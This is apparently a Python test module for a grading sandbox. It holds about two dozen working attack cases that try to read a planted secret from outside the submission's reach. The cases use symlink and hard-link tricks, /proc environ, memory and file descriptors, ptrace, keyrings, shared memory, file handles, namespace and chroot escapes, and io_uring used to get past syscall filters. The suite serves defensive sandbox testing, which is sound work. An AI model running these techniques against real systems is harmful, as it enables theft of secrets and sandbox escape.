"""Reading what is not theirs: files, other processes' memory and environment, keys, shared memory."""

from __future__ import annotations

from collections.abc import Sequence

from ..attack import Attack, Inside
from ..oracles import secret_told
from .tools import TOOLS


def reading(name: str, says: str, body: str, *, sample: bool = False, dangerous: bool = False) -> Attack:
    """An attack of this kind: the secret must not turn up."""
    return Attack(name, "reading", says, secret_told, Inside(TOOLS + body), sample=sample, dangerous=dangerous)


ATTACKS: Sequence[Attack] = (
    reading("reads-a-file", "opens a file of the TA's by its path", """
def attack(bait):
    return each([bait["canary"]], text_of)
""", sample=True),
    reading("reads-anothers-work", "opens another submission of the class", """
def attack(bait):
    return each([bait["other"]], text_of)
"""),
    reading("reads-a-report", "opens another student's report", """
def attack(bait):
    return each([bait["report"]], text_of)
"""),
    reading("reads-shared-folders", "looks into /dev/shm, /var/tmp and the TA's home", """
def attack(bait):
    return each(bait["shared"], text_of)
"""),
    reading("reads-through-a-link", "opens links in its own folder that point outside", """
def attack(bait):
    def look(path):
        os.symlink(path, "here")
        try:
            return text_of("here")
        finally:
            os.unlink("here")
    return each([bait["canary"], bait["link"], bait["report"]], look)
"""),
    reading("reads-through-a-hard-link", "links a file outside into its own folder", """
def attack(bait):
    def look(path):
        os.link(path, "here")
        try:
            return text_of("here")
        finally:
            os.unlink("here")
    return each([bait["canary"], bait["report"]], look)
"""),
    reading("reads-through-another-process", "opens files through /proc/PID/root and /proc/PID/cwd", """
def attack(bait):
    return each([pid for pid in [*pids(), 1, os.getppid(), bait["pid"], bait["victim"]]],
                lambda pid: text_of(f"/proc/{pid}/root{bait['canary']}"))
"""),
    reading("reads-anothers-descriptors", "opens what other processes have open, through /proc/PID/fd", """
def attack(bait):
    found = []
    for pid in {*pids(), os.getppid(), bait["pid"]}:
        for path in glob.glob(f"/proc/{pid}/fd/*"):
            try:
                if stat.S_ISREG(os.stat(path).st_mode):
                    found.append(text_of(path)[:200])
            except OSError:
                pass
    return "\\n".join(found)[-15000:]
"""),
    reading("takes-anothers-descriptor", "copies a descriptor out of the grader with pidfd_getfd", """
def attack(bait):
    def look(pid):
        copy = syscall("pidfd_getfd", syscall("pidfd_open", pid, 0), bait["held"], 0)
        return os.pread(copy, 200, 0).decode()
    return each([bait["pid"]], look)
"""),
    reading("reads-inherited-descriptors", "reads whatever is open when it begins", """
def attack(bait):
    found = []
    for fd in range(3, 512):
        try:
            if stat.S_ISREG(os.fstat(fd).st_mode):
                found.append(os.pread(fd, 300, 0).decode(errors="replace"))
        except OSError:
            pass
    return "\\n".join(found)
"""),
    reading("reads-environments", "reads the variables of all processes", """
def attack(bait):
    own = "\\n".join(f"{name}={value}" for name, value in os.environ.items())
    return own[:4000] + each({*pids(), os.getppid(), bait["pid"], bait["victim"]}, lambda pid: text_of(f"/proc/{pid}/environ"))[-12000:]
"""),
    reading("reads-command-lines", "reads the arguments of all processes", """
def attack(bait):
    return each({*pids(), os.getppid(), bait["pid"], bait["victim"]}, lambda pid: text_of(f"/proc/{pid}/cmdline"))[-15000:]
""", sample=True),
    reading("reads-the-graders-memory", "reads the grader's memory through /proc/PID/mem and process_vm_readv", """
def attack(bait):
    return each([(bait["pid"], bait["page"]), (bait["victim"], bait["secret_address"])], lambda at: memory_at(*at))
"""),
    reading("traces-another-process", "attaches to another process with ptrace and reads its words", """
def attack(bait):
    def look(pid):
        libc.ptrace.restype = ctypes.c_long
        syscall("ptrace", 16, pid, 0, 0)
        os.waitpid(pid, 0x40000000)
        words = b"".join(struct.pack("<q", libc.ptrace(2, pid, ctypes.c_void_p(bait["secret_address"] + 8 * at), None)) for at in range(5))
        syscall("ptrace", 17, pid, 0, 0)
        return words.decode(errors="replace")
    return each([bait["victim"]], look)
"""),
    reading("reads-keys", "looks for keys in the TA's keyrings", """
def attack(bait):
    def look(ring):
        held = ctypes.create_string_buffer(200)
        key = syscall("keyctl", 10, ring, b"user", bait["key"].encode(), 0)
        syscall("keyctl", 11, key, held, 200)
        return held.value.decode(errors="replace")
    return each([-4, -5, -3, -2], look)
"""),
    reading("reads-system-v-memory", "attaches a System V segment of somebody else's", """
def attack(bait):
    def look(key):
        address = called("shmat", called("shmget", key, 0, 0), None, 0o10000)
        return ctypes.string_at(address, 40).decode(errors="replace")
    return each([bait["segment"]], look)
"""),
    reading("opens-by-handle", "opens files by their numbers on the disk, past all folders", """
def attack(bait):
    # the handle of a file is its type, its inode and its generation: of one that is named, the kernel tells it
    def look(path):
        handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128), 136)
        mount = ctypes.c_int()
        syscall("name_to_handle_at", -100, path.encode(), handle, ctypes.byref(mount), 0)
        for root in ("/", ".", "/tmp", "/usr", sys.executable):
            try:
                fd = syscall("open_by_handle_at", os.open(root, os.O_RDONLY), handle, os.O_RDONLY)
                return os.pread(fd, 200, 0).decode()
            except OSError as error:
                last = error
        raise last
    return each([bait["canary"]], look)
"""),
    reading("asks-a-setuid-program", "runs a program that reads with its owner's rights", """
def attack(bait):
    return each([bait["for_root"]], lambda path: subprocess.run([bait["setuid"], path], capture_output=True, text=True, timeout=5))
"""),
    reading("enters-another-namespace", "joins other processes' namespaces with setns", """
def attack(bait):
    def look(pid):
        child_in, child_out = os.pipe()
        child = os.fork()
        if child == 0:
            try:
                for kind in ("user", "mnt"):
                    try:
                        syscall("setns", os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY), 0)
                    except OSError as error:
                        os.write(child_out, str(error).encode())
                os.write(child_out, text_of(bait["canary"]).encode())
            finally:
                os._exit(0)
        os.close(child_out)
        os.waitpid(child, 0)
        return os.read(child_in, 4000).decode()
    return each([1, os.getppid(), bait["pid"]], look)
"""),
    reading("makes-namespaces-of-its-own", "becomes root in a user namespace, mounts the machine again and looks around", """
def attack(bait):
    child_in, child_out = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            syscall("unshare", 0x10000000 | 0x00020000)
            os.makedirs("again", exist_ok=True)
            for source in ("/", "/proc/1/root", f"/proc/{os.getppid()}/root"):
                libc.mount(source.encode(), b"again", None, 0x1000 | 0x4000, None)
                os.write(child_out, each(["again" + bait["canary"], bait["canary"]], text_of).encode())
        except BaseException as error:
            os.write(child_out, str(error).encode())
        finally:
            os._exit(0)
    os.close(child_out)
    os.waitpid(child, 0)
    return os.read(child_in, 8000).decode()
"""),
    reading("leaves-its-root", "walks out of its root with chroot and open folders", """
def attack(bait):
    def look(path):
        child_in, child_out = os.pipe()
        child = os.fork()
        if child == 0:
            try:
                os.makedirs("jail", exist_ok=True)
                out = os.open("/", os.O_RDONLY)
                os.chroot("jail")
                os.fchdir(out)
                for _ in range(30):
                    os.chdir("..")
                os.chroot(".")
                os.write(child_out, text_of(path).encode())
            except BaseException as error:
                os.write(child_out, str(error).encode())
            finally:
                os._exit(0)
        os.close(child_out)
        os.waitpid(child, 0)
        return os.read(child_in, 4000).decode()
    return each([bait["canary"], "/proc/1/root" + bait["canary"]], look)
"""),
    reading("quotes-a-file-in-an-error", "raises errors whose lines come from a file outside", """
def attack(bait):
    import linecache, traceback
    try:
        exec(compile("raise ValueError('x')", bait["canary"], "exec"))
    except ValueError:
        quoted = traceback.format_exc()
    error = SyntaxError("look here", (bait["canary"], 1, 1, None))
    error.__notes__ = [quoted, "".join(traceback.format_exception(error))]
    print(quoted, linecache.getlines(bait["canary"]))
    raise error
"""),
    reading("asks-io-uring", "opens a file by io_uring, which filters of system calls do not see", """
def attack(bait):
    parameters = ctypes.create_string_buffer(120)
    ring = syscall("io_uring_setup", 4, parameters)
    words = struct.unpack("30I", parameters.raw)
    # offsets of the queues in the shared memory: see struct io_sqring_offsets and io_cqring_offsets
    sq_tail, sq_mask, sq_array = words[11], words[12], words[16]
    cq_head, cq_tail, cqes = words[20], words[21], words[25]
    size = max(sq_array + 4 * words[0], cqes + 16 * words[1])
    rings = mmap.mmap(ring, size, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=0)
    entries = mmap.mmap(ring, 64 * words[0], mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=0x10000000)
    path = ctypes.create_string_buffer(bait["canary"].encode())
    entries[:64] = struct.pack("<BBHiQQIIQHHiQQ", 18, 0, 0, -100, 0, ctypes.addressof(path), 0, 0, 7, 0, 0, 0, 0, 0)
    rings[sq_array : sq_array + 4] = struct.pack("<I", 0)
    rings[sq_tail : sq_tail + 4] = struct.pack("<I", 1)
    SYS["io_uring_enter"] = 426
    syscall("io_uring_enter", ring, 1, 1, 1, None, 0)
    _, result, _ = struct.unpack("<QiI", rings[cqes : cqes + 16])
    return os.pread(result, 200, 0).decode() if result >= 0 else os.strerror(-result)
"""),
)  # fmt: skip
